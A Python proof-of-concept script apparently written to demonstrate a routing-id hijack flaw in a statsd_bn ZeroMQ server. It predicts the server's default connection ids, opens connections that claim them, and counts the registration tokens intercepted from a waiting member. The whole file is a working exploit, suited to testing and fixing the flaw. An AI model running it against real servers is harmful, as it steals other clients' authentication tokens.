"""Claims the routing id of a member that waits, to be sent what is the member's; says how many frames it was sent.

An endpoint of a server without keys is its argument. Where one connection can take another's id over, the claimant is
sent the answer to the member's registration, with the token that whoever has it can contribute with.
"""

import struct
import sys
import time

import zmq

from statsd_bn.messages import Message, Register, StatusRequest
from statsd_bn.wire import encode

UNSEEDED = 0x6B8B4567
TOKENS = (b"token--0", b"token--1")

# The first ids that a server gives: one of them is the waiting member's.
FIRST = 24

SECONDS = 0.5
ANSWER_MILLISECONDS = 1000


def main() -> None:
    """Attacks, and prints what was stolen."""
    context = zmq.Context()

    def connect(message: Message, routing_id: bytes = b"") -> zmq.Socket:
        socket = context.socket(zmq.DEALER)
        if routing_id:
            socket.routing_id = routing_id
        socket.connect(sys.argv[1])
        socket.send(encode(message))
        return socket

    members = [connect(registration(0))]
    time.sleep(SECONDS)
    # The claim of an id that is still to come would be another attack.
    others = [connect(StatusRequest()) for _ in range(FIRST)]
    time.sleep(SECONDS)
    claims = [connect(StatusRequest(), b"\0" + struct.pack(">I", UNSEEDED + number)) for number in range(FIRST)]
    time.sleep(SECONDS)
    members.append(connect(registration(1)))
    told = bool(members[0].poll(ANSWER_MILLISECONDS))
    frames = [claim.recv() for claim in claims for _ in range(2) if claim.poll(20)]
    stolen = sum(any(token in frame for token in TOKENS) for frame in frames)
    print(f"{stolen} frames stolen, the member {'was' if told else 'was not'} answered, beside {len(others)} others")
    context.destroy(linger=0)


def registration(member: int) -> Register:
    """Returns that of one of two members."""
    return Register(TOKENS[member], "digits", "world", 0, member, 2, 0, 30.0, f"member {member}")


if __name__ == "__main__":
    main()
